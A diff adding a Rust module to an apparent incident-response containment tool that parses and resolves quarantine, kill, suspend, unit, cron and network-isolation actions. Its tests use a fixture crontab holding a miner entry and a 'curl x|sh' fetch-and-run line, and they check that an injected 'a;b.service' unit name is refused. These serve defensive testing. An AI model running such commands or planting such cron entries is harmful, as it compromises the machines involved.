@@ -1,0 +1,288 @@
+//! `--action KIND:WHAT`: its syntax ([`parse`]) and the exact [`Step`] it becomes on a
+//! target ([`resolve`]): what is read there now (a file's SHA-256, a process's start time and
+//! exe SHA-256, the text of cron lines) is what `--apply` checks again before each change.
+
+use dossier_contain::ops;
+use dossier_contain::{Actuator, CronLine, Peer, Step};
+
+/// Seconds after which an isolation removes itself unless confirmed.
+pub const ISOLATE_ROLLBACK_SECS: u64 = 120;
+/// Largest crontab read to plan a change of its lines.
+const MAX_CRONTAB: u64 = 1 << 20;
+
+/// One `--action`, as written.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Spec {
+    Quarantine(String),
+    Suspend(u32),
+    Kill(u32),
+    NeutralizeUnit(String),
+    NeutralizeCron { path: String, lines: Vec<usize> },
+    Isolate,
+}
+
+fn absolute(what: &str, p: &str) -> Result<String, String> {
+    if !p.starts_with('/') || p.split('/').any(|c| c == "..") || p.contains('\0') {
+        return Err(format!(
+            "{what}: {p:?} is not an absolute path without `..`"
+        ));
+    }
+    Ok(p.to_string())
+}
+
+fn pid(what: &str, s: &str) -> Result<u32, String> {
+    match s.parse::<u32>() {
+        Ok(p) if p > 1 => Ok(p),
+        _ => Err(format!("{what}: {s:?} is not a process id (2 or more)")),
+    }
+}
+
+/// A unit name systemd accepts (`name.service`, `x@y.timer`...).
+fn unit(s: &str) -> Result<String, String> {
+    let ok = !s.is_empty()
+        && s.len() <= 256
+        && !s.starts_with('-')
+        && s.contains('.')
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b":_.@\\-".contains(&b));
+    if ok {
+        Ok(s.to_string())
+    } else {
+        Err(format!(
+            "neutralize-unit: {s:?} is not a unit name with its type (`miner.service`)"
+        ))
+    }
+}
+
+/// Parses one `--action` value.
+pub fn parse(s: &str) -> Result<Spec, String> {
+    let (kind, what) = s.split_once(':').unwrap_or((s, ""));
+    match kind {
+        "quarantine" => Ok(Spec::Quarantine(absolute("quarantine", what)?)),
+        "suspend" => Ok(Spec::Suspend(pid("suspend", what)?)),
+        "kill" => Ok(Spec::Kill(pid("kill", what)?)),
+        "neutralize-unit" => Ok(Spec::NeutralizeUnit(unit(what)?)),
+        "neutralize-cron" => {
+            let (path, lines) = what
+                .rsplit_once(':')
+                .ok_or_else(|| format!("neutralize-cron: {what:?} is not PATH:LINE[,LINE]"))?;
+            let mut numbers = Vec::new();
+            for l in lines.split(',') {
+                match l.parse::<usize>() {
+                    Ok(n) if n > 0 => numbers.push(n),
+                    _ => {
+                        return Err(format!(
+                            "neutralize-cron: {l:?} is not a line number (1 or more)"
+                        ));
+                    }
+                }
+            }
+            numbers.sort_unstable();
+            numbers.dedup();
+            Ok(Spec::NeutralizeCron {
+                path: absolute("neutralize-cron", path)?,
+                lines: numbers,
+            })
+        }
+        "isolate" if what.is_empty() => Ok(Spec::Isolate),
+        _ => Err(format!(
+            "--action {s:?}: expected quarantine:PATH, suspend:PID, kill:PID, neutralize-unit:NAME, neutralize-cron:PATH:LINE[,LINE] or isolate"
+        )),
+    }
+}
+
+/// Start time (field 22 of `/proc/PID/stat`, clock ticks since boot) and exe SHA-256 (when
+/// it can be read) of a process on the target.
+fn process(a: &mut dyn Actuator, pid: u32) -> anyhow::Result<(u64, Option<String>)> {
+    let stat_path = format!("/proc/{pid}/stat");
+    let stat =
+        ops::read(a, &stat_path, 64 << 10).map_err(|e| anyhow::anyhow!("process {pid}: {e}"))?;
+    let text = String::from_utf8_lossy(&stat);
+    // The command name (field 2) is in parentheses and may hold spaces or `)`.
+    let rest = text
+        .rsplit_once(')')
+        .map(|(_, r)| r)
+        .ok_or_else(|| anyhow::anyhow!("{stat_path}: unexpected contents"))?;
+    let start_time = rest
+        .split_whitespace()
+        .nth(19)
+        .and_then(|f| f.parse().ok())
+        .ok_or_else(|| anyhow::anyhow!("{stat_path}: no start time (field 22)"))?;
+    let exe = format!("/proc/{pid}/exe");
+    let o = a.run(
+        &["/usr/bin/sha256sum", "-b", "--", &exe],
+        b"",
+        ops::OP_TIMEOUT,
+    )?;
+    let sha = String::from_utf8_lossy(&o.stdout)
+        .split_whitespace()
+        .next()
+        .filter(|h| o.success() && h.len() == 64)
+        .map(str::to_string);
+    Ok((start_time, sha))
+}
+
+/// The address and port of the SSH session dossier runs in (`SSH_CONNECTION`), kept
+/// reachable by an isolation of this machine.
+fn own_session() -> Vec<Peer> {
+    let Ok(v) = std::env::var("SSH_CONNECTION") else {
+        return Vec::new();
+    };
+    let f: Vec<&str> = v.split_whitespace().collect();
+    match (f.first(), f.get(3).and_then(|p| p.parse().ok())) {
+        (Some(addr), Some(port)) if addr.parse::<std::net::IpAddr>().is_ok() => vec![Peer {
+            addr: (*addr).to_string(),
+            port,
+        }],
+        _ => Vec::new(),
+    }
+}
+
+/// The exact step `spec` is on the target now (its facts read through `a`).
+pub fn resolve(spec: &Spec, a: &mut dyn Actuator) -> anyhow::Result<Step> {
+    Ok(match spec {
+        Spec::Quarantine(path) => Step::Quarantine {
+            path: path.clone(),
+            sha256: ops::sha256(a, path)?,
+        },
+        Spec::Suspend(pid) | Spec::Kill(pid) => {
+            let (start_time, exe_sha256) = process(a, *pid)?;
+            let (pid, kill) = (*pid, matches!(spec, Spec::Kill(_)));
+            if kill {
+                Step::Kill {
+                    pid,
+                    start_time,
+                    exe_sha256,
+                }
+            } else {
+                Step::Suspend {
+                    pid,
+                    start_time,
+                    exe_sha256,
+                }
+            }
+        }
+        Spec::NeutralizeUnit(unit) => Step::NeutralizeUnit {
+            unit: unit.clone(),
+            runtime: false,
+        },
+        Spec::NeutralizeCron { path, lines } => {
+            let data = ops::read(a, path, MAX_CRONTAB)?;
+            let text = String::from_utf8_lossy(&data);
+            let all: Vec<&str> = text.lines().collect();
+            let mut out = Vec::new();
+            for &n in lines {
+                let t = all
+                    .get(n - 1)
+                    .ok_or_else(|| anyhow::anyhow!("{path} has {} lines, not {n}", all.len()))?;
+                out.push(CronLine {
+                    number: n,
+                    text: (*t).to_string(),
+                });
+            }
+            Step::NeutralizeCron {
+                path: path.clone(),
+                lines: out,
+            }
+        }
+        Spec::Isolate => Step::Isolate {
+            keep: own_session(),
+            rollback_secs: ISOLATE_ROLLBACK_SECS,
+        },
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use dossier_contain::LocalActuator;
+
+    #[test]
+    fn parses_every_kind_and_refuses_bad_input() {
+        assert_eq!(
+            parse("quarantine:/tmp/x"),
+            Ok(Spec::Quarantine("/tmp/x".into()))
+        );
+        assert_eq!(parse("suspend:42"), Ok(Spec::Suspend(42)));
+        assert_eq!(parse("kill:42"), Ok(Spec::Kill(42)));
+        assert_eq!(
+            parse("neutralize-unit:miner.service"),
+            Ok(Spec::NeutralizeUnit("miner.service".into()))
+        );
+        assert_eq!(
+            parse("neutralize-cron:/etc/cron.d/x:3,1,3"),
+            Ok(Spec::NeutralizeCron {
+                path: "/etc/cron.d/x".into(),
+                lines: vec![1, 3]
+            })
+        );
+        assert_eq!(parse("isolate"), Ok(Spec::Isolate));
+        for bad in [
+            "quarantine:rel/path",
+            "quarantine:/a/../b",
+            "suspend:1",
+            "suspend:x",
+            "neutralize-unit:miner",
+            "neutralize-unit:a;b.service",
+            "neutralize-cron:/etc/crontab",
+            "neutralize-cron:/etc/crontab:0",
+            "isolate:now",
+            "reboot",
+        ] {
+            assert!(parse(bad).is_err(), "{bad} accepted");
+        }
+    }
+
+    #[test]
+    fn resolves_a_process_a_file_and_cron_lines_on_this_machine() {
+        let a: &mut dyn Actuator = &mut LocalActuator::new();
+        let me = std::process::id();
+        let Step::Suspend {
+            pid,
+            start_time,
+            exe_sha256,
+        } = resolve(&Spec::Suspend(me), a).unwrap()
+        else {
+            panic!()
+        };
+        assert_eq!(pid, me);
+        assert!(start_time > 0);
+        let exe = std::fs::read(std::env::current_exe().unwrap()).unwrap();
+        let want: String = <sha2::Sha256 as sha2::Digest>::digest(&exe)
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        assert_eq!(exe_sha256.as_deref(), Some(want.as_str()));
+        let d = tempfile::tempdir().unwrap();
+        let f = d.path().join("crontab");
+        std::fs::write(&f, "# m h\n@reboot /tmp/.x/miner\n*/5 * * * * curl x|sh\n").unwrap();
+        let p = f.to_str().unwrap().to_string();
+        let step = resolve(
+            &Spec::NeutralizeCron {
+                path: p.clone(),
+                lines: vec![2, 3],
+            },
+            a,
+        )
+        .unwrap();
+        let Step::NeutralizeCron { lines, .. } = step else {
+            panic!()
+        };
+        assert_eq!(lines[0].text, "@reboot /tmp/.x/miner");
+        assert_eq!(lines[1].number, 3);
+        assert!(
+            resolve(
+                &Spec::NeutralizeCron {
+                    path: p.clone(),
+                    lines: vec![9]
+                },
+                a
+            )
+            .is_err()
+        );
+        let Step::Quarantine { sha256, .. } = resolve(&Spec::Quarantine(p), a).unwrap() else {
+            panic!()
+        };
+        assert_eq!(sha256.len(), 64);
+    }
+}
